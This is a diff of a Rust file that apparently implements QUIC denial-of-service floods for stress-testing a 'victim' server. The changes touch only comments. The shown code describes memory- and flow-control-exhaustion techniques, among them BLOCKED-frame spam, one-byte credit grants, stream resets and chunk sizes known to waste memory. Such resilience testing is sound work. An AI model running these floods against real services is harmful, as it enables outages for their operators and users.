@@ -13,9 +13,9 @@ use super::{
     told::Told,
 };
 
-/// A message's length. It is below every peer's `max_record_size`.
+/// The length of a message. It is below every peer's `max_record_size`.
 const MESSAGE: usize = 16 * 1024;
-/// The pause between two attempts to connect if the victim refuses.
+/// The pause between two attempts to connect while the victim refuses connections.
 const PATIENCE: Duration = Duration::from_millis(10);
 
 pub async fn flood(attack: Attack, address: SocketAddr, until: Instant) -> Result<Told> {
@@ -37,7 +37,8 @@ pub async fn flood(attack: Attack, address: SocketAddr, until: Instant) -> Resul
             Err(_) => break,
         };
         told.connections += 1;
-        // The victim or the time limit ends it. The victim's last words show which.
+        // Either the victim or the time limit ends the attack. The victim's last message shows
+        // which.
         let _ = timeout_at(until, at_full_speed(attack, &mut raw)).await;
         told.messages += raw.messages;
         told.bytes += raw.bytes;
@@ -77,8 +78,7 @@ async fn at_full_speed(attack: Attack, raw: &mut Raw) -> Result<Infallible> {
         Attack::Padding => same(raw, |out| out.push(0)).await,
         Attack::Blocked => {
             raw.send(stream_frame(0, 0, b"x", false)).await?;
-            // Blocked frames for the connection, a stream, bidirectional and unidirectional
-            // streams.
+            // BLOCKED frames for the connection, for a stream, and for both kinds of streams.
             same(raw, |out| varints(out, &[0x14, 1, 0x15, 0, 1, 0x16, 1, 0x17, 1])).await
         }
         Attack::Datagrams => same(raw, |out| varints(out, &[0x31, 1, 7])).await,
@@ -95,12 +95,12 @@ fn stream_frame(id: u64, offset: u64, data: &[u8], fin: bool) -> Vec<u8> {
     frame
 }
 
-/// One byte of a stream, and its reset.
+/// Appends one byte of a stream, and its reset.
 fn reset(out: &mut Vec<u8>, id: u64) {
     varints(out, &[0x0e, id, 0, 1, 7, 0x04, id, 0, 1]);
 }
 
-/// A whole request whose answer is not wanted.
+/// Appends a whole request and a request to stop its answer.
 fn stop(out: &mut Vec<u8>, id: u64) {
     out.extend(stream_frame(id, 0, &[7; 64], true));
     varints(out, &[0x05, id, 0]);
@@ -118,7 +118,7 @@ async fn same(raw: &mut Raw, frames: impl Fn(&mut Vec<u8>)) -> Result<Infallible
     }
 }
 
-/// Opens as many streams as the victim permits.
+/// Opens as many streams as the victim permits, and appends these frames for each.
 async fn streams(raw: &mut Raw, frames: impl Fn(&mut Vec<u8>, u64)) -> Result<Infallible> {
     let mut next = 0;
     loop {
@@ -132,7 +132,7 @@ async fn streams(raw: &mut Raw, frames: impl Fn(&mut Vec<u8>, u64)) -> Result<In
     }
 }
 
-/// There are always bytes to be echoed, and credit for one more byte.
+/// Grants one byte of credit at a time, while there are always bytes to be echoed.
 async fn one_byte_grants(raw: &mut Raw) -> Result<Infallible> {
     const STEP: u64 = MESSAGE as u64;
     let data = [7; MESSAGE];
@@ -176,8 +176,8 @@ async fn never_reads(raw: &mut Raw) -> Result<Infallible> {
 }
 
 /// Sends everything that the victim grants at first, on each stream of either kind. The sizes are
-/// those that once cost the most memory: bytes at the end of a long queue get a large block, and
-/// the next piece ends that block.
+/// those that once cost the most memory: a few bytes at the end of a long queue get a large block,
+/// and the next piece closes that block, which stays almost empty.
 async fn bytes_and_chunks(raw: &mut Raw) -> Result<Infallible> {
     const CHUNK: usize = 4 * 1024;
     let data = [7; MESSAGE];
